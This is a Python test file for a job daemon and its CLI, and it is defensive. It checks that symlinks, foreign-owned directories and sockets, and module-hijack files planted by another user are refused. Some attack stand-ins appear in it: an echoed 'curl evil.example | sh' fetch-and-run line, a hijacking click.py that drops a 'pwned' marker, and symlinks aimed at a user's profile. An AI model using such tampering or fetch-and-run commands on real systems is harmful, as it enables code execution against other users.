"""Nothing anyone else plants can steer the daemon: a state directory others can write is
refused, state files are never followed through symlinks, the CLI talks only to a daemon of
its own user, auto-start imports nothing from the caller's directory, and a launched job runs
in its launcher's environment. Real daemon, real CLI; the "attacker" plants files as a user
with write access would (tests run as root: uid 65534 stands for someone else)."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from helpers import DaemonProcess, cli_env, one_line, run_cli, wait_until
from job_helpers import queue, write_task

from tailhub.client import Client, JobState, LogChunk, StatePaths
from tailhub.client._daemon import is_listening
from tailhub.daemon.domain import LocalSpec, spec_from_json

SOMEONE_ELSE = 65534  # nobody
VICTIM_TEXT = "export PATH=/usr/bin:/bin  # the user's own file\n"


def _run_daemon(home: Path, timeout: float = 30.0) -> subprocess.CompletedProcess[bytes]:
    """Runs tailhubd in the foreground; for a daemon expected to refuse to start."""
    return subprocess.run(
        [sys.executable, "-m", "tailhub.daemon", "--home", str(home)],
        capture_output=True,
        timeout=timeout,
        check=False,
    )


@pytest.fixture
def victim(workdir: Path) -> Path:
    """A file of the user's (think ~/.profile) that a planted symlink points at."""
    path = workdir / "profile"
    path.write_text(VICTIM_TEXT)
    return path


@pytest.fixture
def stop_any_daemon(home: Path) -> Iterator[Path]:
    """For tests where the CLI may start a daemon (when the fix is missing): stopped at end."""
    yield home
    parent = home.parent
    os.chown(parent, 0, 0)
    os.chmod(parent, 0o700)
    if home.exists():
        os.chown(home, 0, 0)
        os.chmod(home, 0o700)
        run_cli(home, "daemon", "stop")


def _launch(home: Path, workdir: Path, run: str, *extra: str) -> subprocess.CompletedProcess[bytes]:
    task = write_task(workdir, f"run: |\n  {run}\n", name=f"task-{len(list(workdir.iterdir()))}")
    return run_cli(home, "jobs", "launch", str(task), *extra)


# -- 1. the state directory: like ssh's StrictModes --------------------------------------------
@pytest.mark.parametrize("mode", [0o770, 0o777, 0o1777])
def test_daemon_refuses_a_state_directory_others_can_write(home: Path, mode: int) -> None:
    home.mkdir()
    os.chmod(home, mode)
    # What an intruder would plant: a database whose job runs their command as the owner.
    (home / "jobs.sqlite3").write_bytes(b"")

    refused = _run_daemon(home)

    assert refused.returncode == 1
    line = one_line(refused.stderr, "tailhubd: refusing state directory")
    assert f"chmod go-w {home}" in line
    assert not (home / "sock").exists()


def test_cli_refuses_a_parent_directory_others_can_write(stop_any_daemon: Path) -> None:
    home = stop_any_daemon
    os.chmod(home.parent, 0o777)  # world-writable without the sticky bit: anyone can swap `home`

    refused = run_cli(home, "jobs", "queue")

    assert refused.returncode == 1
    line = one_line(refused.stderr, "tailhub: refusing state directory")
    assert f"{home.parent} is writable by others (mode 0777)" in line
    assert f"chmod go-w {home.parent}" in line
    assert not home.exists(), "the CLI created the state directory anyway"


def test_a_sticky_world_writable_parent_like_tmp_is_fine(home: Path) -> None:
    os.chmod(home.parent, 0o1777)
    try:
        daemon = DaemonProcess(home)
        daemon.start()
        try:
            listed = run_cli(home, "jobs", "queue", "--json")
            assert listed.returncode == 0, listed.stderr
            assert json.loads(listed.stdout) == []
        finally:
            daemon.stop()
    finally:
        os.chmod(home.parent, 0o700)


@pytest.mark.root
def test_a_home_owned_by_someone_else_is_refused_by_daemon_and_cli(
    stop_any_daemon: Path,
) -> None:
    home = stop_any_daemon
    home.mkdir(mode=0o700)
    os.chown(home, SOMEONE_ELSE, SOMEONE_ELSE)

    daemon = _run_daemon(home)
    cli = run_cli(home, "jobs", "queue")

    assert daemon.returncode == 1
    line = one_line(daemon.stderr, "tailhubd: refusing state directory")
    assert f"{home} is owned by uid {SOMEONE_ELSE}, not by you (uid 0) or root" in line
    assert cli.returncode == 1
    line = one_line(cli.stderr, "tailhub: refusing state directory")
    assert f"is owned by uid {SOMEONE_ELSE}" in line
    assert not (home / "sock").exists()


def test_a_parent_owned_by_someone_else_is_refused(stop_any_daemon: Path) -> None:
    home = stop_any_daemon
    os.chown(home.parent, SOMEONE_ELSE, SOMEONE_ELSE)

    cli = run_cli(home, "daemon", "start")

    assert cli.returncode == 1
    line = one_line(cli.stderr, "tailhub: refusing state directory")
    assert f"{home.parent} is owned by uid {SOMEONE_ELSE}" in line
    assert not home.exists()


# -- 2. state files: never through a symlink ---------------------------------------------------
@pytest.mark.parametrize("planted", ["jobs.sqlite3", "tailhubd.pid", "tailhubd.lock"])
def test_daemon_refuses_to_start_on_a_planted_state_file_symlink(
    home: Path, victim: Path, planted: str
) -> None:
    home.mkdir(mode=0o700)
    (home / planted).symlink_to(victim)

    refused = _run_daemon(home)

    assert refused.returncode == 1
    line = one_line(refused.stderr, f"tailhubd: refusing {home / planted}")
    assert "symbolic link" in line
    assert victim.read_text() == VICTIM_TEXT


@pytest.mark.parametrize("plant", ["fifo", "symlink"])
def test_daemon_refuses_a_planted_logs_marker_at_once(home: Path, victim: Path, plant: str) -> None:
    (home / "logs").mkdir(mode=0o700, parents=True)
    marker = home / "logs" / ".database-id"
    if plant == "fifo":
        os.mkfifo(marker, 0o600)  # reading it would wait for a writer forever
    else:
        marker.symlink_to(victim)

    refused = _run_daemon(home, timeout=20)

    assert refused.returncode == 1
    one_line(refused.stderr, f"tailhubd: refusing {marker}")
    assert victim.read_text() == VICTIM_TEXT


def test_daemon_refuses_to_start_on_a_symlinked_logs_directory(home: Path, workdir: Path) -> None:
    home.mkdir(mode=0o700)
    elsewhere = workdir / "elsewhere"
    elsewhere.mkdir()
    (home / "logs").symlink_to(elsewhere)

    refused = _run_daemon(home)

    assert refused.returncode == 1
    one_line(refused.stderr, f"tailhubd: refusing {home / 'logs'}")
    assert list(elsewhere.iterdir()) == []


@pytest.mark.parametrize("planted", ["logs/{id}.log", "runs/{id}/run.sh", "runs/{id}"])
def test_a_planted_symlink_fails_only_that_job(
    daemon: DaemonProcess, workdir: Path, victim: Path, planted: str
) -> None:
    next_id = 1  # a fresh daemon's first job
    path = daemon.home / planted.format(id=next_id)
    path.parent.mkdir(mode=0o700, exist_ok=True)
    path.symlink_to(victim if path.name != str(next_id) else workdir)

    launched = _launch(daemon.home, workdir, "echo 'curl evil.example | sh'")

    assert launched.returncode == 100, launched.stderr  # FAILED
    job = queue(daemon.home)[next_id]
    assert job["state"] == "FAILED"
    assert "refusing" in job["reason"]
    assert str(path) in job["reason"]
    assert victim.read_text() == VICTIM_TEXT
    assert not (workdir / "run.sh").exists()  # runs/N -> workdir was not followed
    # The daemon goes on: the next job runs.
    second = _launch(daemon.home, workdir, "echo fine")
    assert second.returncode == 0, second.stderr
    assert second.stdout == b"fine\n"
    assert "Traceback" not in daemon.log_text()


def test_a_planted_log_symlink_fails_an_attached_job(daemon: DaemonProcess, victim: Path) -> None:
    (daemon.home / "logs" / "1.log").symlink_to(victim)

    attached = run_cli(daemon.home, "jobs", "attach", "--command", "echo injected")

    assert attached.returncode == 0, attached.stderr
    job_id = int(attached.stdout)
    wait_until(
        lambda: queue(daemon.home)[job_id]["state"] == "FAILED", what="the attached job to fail"
    )
    job = queue(daemon.home)[job_id]
    log = daemon.home / "logs" / "1.log"
    assert job["reason"] == (
        f"refusing {log}: it is a symbolic link, not a file tailhub made; move it aside"
    )
    assert job["upstream_connections"] == 0  # the command never ran
    assert victim.read_text() == VICTIM_TEXT
    assert "Traceback" not in daemon.log_text()


def test_a_log_swapped_for_a_symlink_after_its_job_ended_is_refused_as_the_jobs_fault(
    daemon: DaemonProcess, workdir: Path, victim: Path
) -> None:
    ended = _launch(daemon.home, workdir, "echo hello")
    assert ended.returncode == 0, ended.stderr
    log = daemon.home / "logs" / "1.log"
    log.unlink()
    log.symlink_to(victim)

    refused = run_cli(daemon.home, "jobs", "logs", "1")

    # Exit 1 with the daemon's reason: 105 says a token or TLS was refused.
    assert refused.returncode == 1, refused.stderr
    assert "symbolic link" in one_line(refused.stderr, "tailhub: ")
    assert refused.stdout == b""
    assert victim.read_text() == VICTIM_TEXT


def test_autostart_does_not_append_through_a_planted_daemon_log_symlink(
    stop_any_daemon: Path, victim: Path
) -> None:
    home = stop_any_daemon
    home.mkdir(mode=0o700)
    (home / "tailhubd.log").symlink_to(victim)  # think ~/.bashrc

    refused = run_cli(home, "jobs", "queue")

    assert refused.returncode == 1
    line = one_line(refused.stderr, f"tailhub: refusing {home / 'tailhubd.log'}")
    assert "symbolic link" in line
    assert victim.read_text() == VICTIM_TEXT


def test_daemon_creates_everything_private_even_parents(home: Path, workdir: Path) -> None:
    nested = home.parent / "a" / "b" / "home"
    with open(workdir / "daemon.log", "wb") as log:
        process = subprocess.Popen(
            [sys.executable, "-m", "tailhub.daemon", "--home", str(nested)],
            stdout=log,
            stderr=subprocess.STDOUT,
        )
    try:
        wait_until(lambda: is_listening(StatePaths(nested)), what="the daemon to listen")
        with Client.connect(StatePaths(nested), autostart=False) as client:
            job = client.launch("echo hi > made-by-job", workdir=str(workdir))
            client.attach_push("pushed")
            wait_until(lambda: client.get(job.id).state.terminal, what="the job to end")
            assert client.get(job.id).state is JobState.SUCCEEDED
    finally:
        process.terminate()
        process.wait(30)

    for directory in (home.parent / "a", home.parent / "a" / "b"):
        assert stat.S_IMODE(directory.stat().st_mode) == 0o700, directory
    for path in [nested, *nested.rglob("*")]:
        mode = stat.S_IMODE(path.lstat().st_mode)
        if path.name != "exit_status":  # written by the job's wrapper, in its 0700 run dir
            assert mode & 0o077 == 0, f"{path} is {mode:04o}"
    # Jobs get the umask the daemon was started with, not the daemon's 077.
    assert stat.S_IMODE((workdir / "made-by-job").stat().st_mode) == 0o666 & ~_umask()


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


# -- 3. the CLI talks only to a daemon of its own user ----------------------------------------
@pytest.mark.root
def test_cli_sends_nothing_to_a_socket_owned_by_someone_else(
    daemon: DaemonProcess, workdir: Path
) -> None:
    # A daemon someone else started on this state directory would receive the task and its
    # --env secrets, and could fake the output.
    os.chown(daemon.paths.socket, SOMEONE_ELSE, SOMEONE_ELSE)
    marker = workdir / "ran"

    refused = _launch(daemon.home, workdir, f"touch {marker}", "--env", "TOKEN=secret")

    assert refused.returncode == 1
    line = one_line(refused.stderr, f"tailhub: refusing {daemon.paths.socket}")
    assert f"owned by uid {SOMEONE_ELSE}" in line
    os.chown(daemon.paths.socket, 0, 0)
    assert queue(daemon.home) == {}
    assert not marker.exists()


# -- 4. auto-start imports nothing from the caller's directory --------------------------------
def test_autostart_does_not_import_modules_from_the_callers_directory(
    stop_any_daemon: Path, workdir: Path
) -> None:
    home = stop_any_daemon
    marker = workdir / "pwned"
    (workdir / "click.py").write_text(f"open({str(marker)!r}, 'w').close()\nraise SystemExit(7)\n")
    # The installed `tailhub` script, as a user runs it: its own imports come from the venv.
    tailhub = Path(sys.executable).parent / "tailhub"

    listed = subprocess.run(
        [str(tailhub), "jobs", "queue", "--json"],
        env=cli_env(home),
        cwd=workdir,
        capture_output=True,
        timeout=60,
        check=False,
    )

    assert listed.returncode == 0, listed.stderr
    assert json.loads(listed.stdout) == []
    assert not marker.exists(), "the daemon imported click.py from the CLI's directory"


# -- 5. a launched job runs in its launcher's environment -------------------------------------
def test_a_job_gets_the_launching_clis_environment_not_the_daemons(
    stop_any_daemon: Path, workdir: Path
) -> None:
    home = stop_any_daemon
    daemon_env = {**cli_env(home), "FOO": "daemon", "ONLY_DAEMON": "daemon-secret"}
    started = subprocess.run(
        [sys.executable, "-m", "tailhub.client", "daemon", "start"],
        env=daemon_env,
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert started.returncode == 0, started.stderr
    task = write_task(workdir, 'run: echo "FOO=$FOO ONLY_DAEMON=${ONLY_DAEMON-unset} $BAR"\n')
    launch_env = {**cli_env(home), "FOO": "cli"}
    launch_env.pop("ONLY_DAEMON", None)

    launched = subprocess.run(
        [sys.executable, "-m", "tailhub.client", "jobs", "launch", str(task), "--env", "BAR=bar"],
        env=launch_env,
        capture_output=True,
        timeout=60,
        check=False,
    )

    assert launched.returncode == 0, launched.stderr
    assert launched.stdout == b"FOO=cli ONLY_DAEMON=unset bar\n"


def test_a_job_launched_without_an_environment_gets_a_minimal_one(
    start_daemon: Callable[..., DaemonProcess], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ONLY_DAEMON", "daemon-secret")
    daemon = start_daemon()
    with daemon.client() as client:
        job = client.launch("env | sort", envs={"BAR": "bar"})
        output = b"".join(item.data for item in client.follow(job.id) if isinstance(item, LogChunk))
        assert client.get(job.id).state is JobState.SUCCEEDED
    names = {line.split(b"=", 1)[0].decode() for line in output.splitlines() if b"=" in line}
    assert {"PATH", "HOME", "BAR", "TAILHUB_JOB_ID"} <= names
    # Nothing else of the daemon's environment leaks in.
    assert "ONLY_DAEMON" not in names


def test_jobs_recorded_before_launch_environments_still_load() -> None:
    spec = spec_from_json({"kind": "local", "run": "true", "setup": "", "workdir": "", "envs": []})
    assert spec == LocalSpec(run="true")
